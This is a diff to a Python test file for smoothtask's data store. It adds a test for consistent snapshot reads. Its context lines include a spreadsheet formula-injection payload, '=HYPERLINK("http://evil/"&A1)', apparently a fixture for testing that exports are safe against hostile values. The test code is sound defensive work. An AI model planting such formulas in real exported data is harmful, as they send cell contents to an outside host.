@@ -8,13 +8,15 @@ from pathlib import Path
 
 import pytest
 from pyarrow import parquet
+from sqlmodel import func, select
 from store.conftest import Place
 from store.frames import BUSY, FIREFOX, NOON, frame, group, process, shown
 
 from smoothtask.model.classes import PriorityClass
 from smoothtask.store.export import TABLES, Format, export
 from smoothtask.store.labels import read_labels
-from smoothtask.store.reading import StoreError
+from smoothtask.store.reading import StoreError, open_for_reading
+from smoothtask.store.tables import SnapshotRow
 
 FORMULA = '=HYPERLINK("http://evil/"&A1)'
 
@@ -160,6 +162,18 @@ def test_unreadable_logs_are_one_sentence(place: Place, tmp_path: Path) -> None:
     with pytest.raises(StoreError, match="cannot be read"):
         export(place.path, tmp_path / "out", "csv")
     assert not list((tmp_path / "out").iterdir())
+
+
+def test_what_is_read_is_one_state(full: Place) -> None:
+    """However much is recorded in between."""
+    count = select(func.count()).select_from(SnapshotRow)
+    with open_for_reading(full.path) as session:
+        before = session.exec(count).one()
+        full.logs[0].offer(frame(99, contention=BUSY))
+        full.logs[0].flush()
+        assert session.exec(count).one() == before
+    with open_for_reading(full.path) as session:
+        assert session.exec(count).one() == before + 1
 
 
 def test_hostile_file_names(full: Place, tmp_path: Path) -> None:
